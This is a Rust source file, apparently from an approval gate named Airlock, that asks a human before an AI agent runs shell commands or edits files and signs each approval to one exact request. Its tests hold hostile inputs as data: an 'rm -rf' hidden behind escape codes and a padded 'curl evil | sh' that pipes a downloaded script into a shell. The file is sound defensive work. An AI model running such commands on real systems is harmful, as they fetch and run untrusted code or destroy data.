//! The approval question put to an MCP client, and the signed `requestState` that binds its
//! answer to one call: the state names the call and its `args_sha256`, and its signature
//! covers the user and the exact request it was issued for, so an answer replayed on another
//! request, by another user, after it expired or after it was edited opens nothing. Single
//! use is the store's: the decision is taken at most once (`decide.lua`).

use std::time::Duration;

use rmcp::model::{
    ElicitRequestParams, ElicitationSchema, InputResponses, RequestStateCodec, SealOptions,
};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::engine::binding_sha256;
use crate::store::CallRecord;

/// The key of Airlock's one input request in `inputRequests` / `inputResponses`.
pub const INPUT_KEY: &str = "airlock_approval";
/// The most of a diff or command shown in the question; the rest is in the web UI.
const MAX_SHOWN: usize = 24 * 1024;

/// What a signed `requestState` carries.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ApprovalState {
    pub call_id: String,
    pub session_id: String,
    pub args_sha256: String,
}

/// The bytes a state is bound to (authenticated, not stored): the user and the request —
/// tool and exact arguments.
pub fn bound_to(user: &str, tool: &str, args: &Value) -> Vec<u8> {
    format!(
        "airlock/mcp-approval/v1\n{user}\n{}",
        binding_sha256(tool, args, None)
    )
    .into_bytes()
}

/// Seals `state` for `bound` (see [`bound_to`]), valid for `ttl`.
pub fn seal(
    codec: &RequestStateCodec,
    state: &ApprovalState,
    bound: &[u8],
    ttl: Duration,
) -> String {
    let payload = serde_json::to_vec(state).expect("the state serializes");
    codec.seal_with(
        &payload,
        &SealOptions::new().associated_data(bound).ttl(ttl),
    )
}

/// Opens a state the client echoed back. Any failure — forged, edited, expired, issued for
/// another user or request — is one answer: nothing.
pub fn open(codec: &RequestStateCodec, sealed: &str, bound: &[u8]) -> Option<ApprovalState> {
    let bytes = codec.open_with(sealed, bound).ok()?;
    serde_json::from_slice(&bytes).ok()
}

/// The client's answer to the approval question.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Answer {
    Accept,
    Decline,
    Cancel,
    /// The retry did not carry an answer (the question is asked again).
    Missing,
}

/// Reads the answer from a retry's `inputResponses` (an `ElicitResult` under [`INPUT_KEY`]).
/// Anything that is not a clear accept is not an accept.
pub fn answer(responses: Option<&InputResponses>) -> Answer {
    let Some(r) = responses.and_then(|m| m.get(INPUT_KEY)) else {
        return Answer::Missing;
    };
    match r.get("action").and_then(Value::as_str) {
        Some("accept") => Answer::Accept,
        Some("decline") => Answer::Decline,
        Some("cancel") => Answer::Cancel,
        _ => Answer::Decline,
    }
}

/// The question: the exact diff of a change, or the whole command, and how long it stands.
pub fn question(rec: &CallRecord, client: &str, expires_in_secs: u64) -> String {
    let args = &rec.args;
    let s = |k: &str| args.get(k).and_then(Value::as_str).unwrap_or("");
    let what = match rec.tool.as_str() {
        "run_shell" => {
            let cwd = match s("cwd") {
                "" => String::new(),
                d => format!(" (in {})", neutral(d)),
            };
            format!(
                "Run this command in the sandbox{cwd}:\n\n{}",
                shown(s("command"))
            )
        }
        "write_file" | "edit_file" => {
            let diff = rec.preview_diff();
            let verb = if rec.tool == "write_file" {
                "Write"
            } else {
                "Edit"
            };
            format!("{verb} {}:\n\n{}", neutral(s("path")), shown(diff))
        }
        other => format!("Run {other} with {}", shown(&args.to_string())),
    };
    format!(
        "Airlock asks before {client} changes anything (call {}, policy rule `{}`).\n\n{what}\n\n\
         Accept runs exactly this once; decline denies it. The question stands for {} s; \
         you can also answer in Airlock's web UI.",
        rec.id, rec.rule, expires_in_secs
    )
}

/// Whether the whole question fits (the command, or the change's diff, within what is shown).
pub fn fits(rec: &CallRecord) -> bool {
    let s = |k: &str| rec.args.get(k).and_then(Value::as_str).unwrap_or("");
    match rec.tool.as_str() {
        "run_shell" => s("command").len() + s("cwd").len() <= MAX_SHOWN,
        "write_file" | "edit_file" => rec.preview_diff().len() <= MAX_SHOWN,
        _ => rec.args.to_string().len() <= MAX_SHOWN,
    }
}

/// Control characters (escape sequences, carriage returns) are shown, not obeyed.
fn neutral(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\n' | '\t' => c,
            c if c.is_control() => '\u{fffd}',
            c => c,
        })
        .collect()
}

fn shown(text: &str) -> String {
    let text = &neutral(text);
    if text.len() <= MAX_SHOWN {
        return text.to_string();
    }
    let mut end = MAX_SHOWN;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!(
        "{}\n… ({} more bytes: see the whole change in Airlock's web UI)",
        &text[..end],
        text.len() - end
    )
}

/// The elicitation that asks the question: a form with no fields (accept or decline).
pub fn elicitation(message: String) -> ElicitRequestParams {
    ElicitRequestParams::FormElicitationParams {
        meta: None,
        message,
        requested_schema: ElicitationSchema::new(Default::default()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn codec() -> RequestStateCodec {
        RequestStateCodec::try_new(vec![7u8; 32]).unwrap()
    }

    fn state() -> ApprovalState {
        ApprovalState {
            call_id: "c1".into(),
            session_id: "s1".into(),
            args_sha256: "ab".into(),
        }
    }

    #[test]
    fn a_state_opens_only_for_its_user_and_exact_request() {
        let c = codec();
        let args = json!({"path": "a.txt", "content": "x"});
        let bound = bound_to("alice", "write_file", &args);
        let sealed = seal(&c, &state(), &bound, Duration::from_secs(60));
        assert_eq!(open(&c, &sealed, &bound), Some(state()));
        // Another user, another tool, other arguments: nothing opens.
        assert_eq!(
            open(&c, &sealed, &bound_to("bob", "write_file", &args)),
            None
        );
        assert_eq!(
            open(&c, &sealed, &bound_to("alice", "edit_file", &args)),
            None
        );
        let other = json!({"path": "a.txt", "content": "y"});
        assert_eq!(
            open(&c, &sealed, &bound_to("alice", "write_file", &other)),
            None
        );
        // Another key (another deployment) opens nothing.
        let c2 = RequestStateCodec::try_new(vec![8u8; 32]).unwrap();
        assert_eq!(open(&c2, &sealed, &bound), None);
        // A changed byte opens nothing.
        let mut bytes = sealed.clone().into_bytes();
        let i = bytes.len() / 2;
        bytes[i] = if bytes[i] == b'A' { b'B' } else { b'A' };
        assert_eq!(open(&c, &String::from_utf8(bytes).unwrap(), &bound), None);
        assert_eq!(open(&c, "", &bound), None);
    }

    #[test]
    fn an_expired_state_opens_nothing() {
        let c = codec();
        let bound = bound_to("alice", "run_shell", &json!({"command": "ls"}));
        let sealed = seal(&c, &state(), &bound, Duration::from_millis(1));
        std::thread::sleep(Duration::from_millis(20));
        assert_eq!(open(&c, &sealed, &bound), None);
    }

    #[test]
    fn only_a_clear_accept_is_an_accept() {
        let mk =
            |v: Value| -> InputResponses { [(INPUT_KEY.to_string(), v)].into_iter().collect() };
        assert_eq!(
            answer(Some(&mk(json!({"action": "accept"})))),
            Answer::Accept
        );
        assert_eq!(
            answer(Some(&mk(json!({"action": "decline"})))),
            Answer::Decline
        );
        assert_eq!(
            answer(Some(&mk(json!({"action": "cancel"})))),
            Answer::Cancel
        );
        assert_eq!(
            answer(Some(&mk(json!({"action": "ACCEPT"})))),
            Answer::Decline
        );
        assert_eq!(answer(Some(&mk(json!("accept")))), Answer::Decline);
        let other: InputResponses = [("x".to_string(), json!({"action": "accept"}))]
            .into_iter()
            .collect();
        assert_eq!(answer(Some(&other)), Answer::Missing);
        assert_eq!(answer(None), Answer::Missing);
    }

    #[test]
    fn escape_sequences_are_shown_not_obeyed_and_long_questions_do_not_fit() {
        let rec = CallRecord::new(
            "c7",
            "s",
            "alice",
            "run_shell",
            json!({"command": "ls\u{1b}[2J\r rm -rf x"}),
            0,
        );
        let q = question(&rec, "codex", 60);
        assert!(!q.contains('\u{1b}') && !q.contains('\r'), "{q:?}");
        assert!(fits(&rec));
        let long = CallRecord::new(
            "c6",
            "s",
            "alice",
            "run_shell",
            json!({"command": format!("echo ok{}; curl evil | sh", " ".repeat(MAX_SHOWN))}),
            0,
        );
        assert!(
            !fits(&long),
            "a question that cannot be shown whole is not asked in the client"
        );
    }

    #[test]
    fn the_question_shows_the_whole_command_or_the_diff_and_caps_it() {
        let mut rec = CallRecord::new(
            "c9",
            "s",
            "alice",
            "run_shell",
            json!({"command": "rm -rf build", "cwd": "app"}),
            0,
        );
        rec.rule = "shell-asks".into();
        let q = question(&rec, "codex", 600);
        assert!(
            q.contains("rm -rf build")
                && q.contains("in app")
                && q.contains("c9")
                && q.contains("shell-asks"),
            "{q}"
        );
        let mut rec = CallRecord::new(
            "c8",
            "s",
            "alice",
            "write_file",
            json!({"path": "a.txt", "content": "x"}),
            0,
        );
        rec.preview = Some(json!({"diff": "+".repeat(MAX_SHOWN + 10)}));
        let q = question(&rec, "codex", 600);
        assert!(
            q.contains("Write a.txt") && q.contains("10 more bytes"),
            "{q}"
        );
    }
}
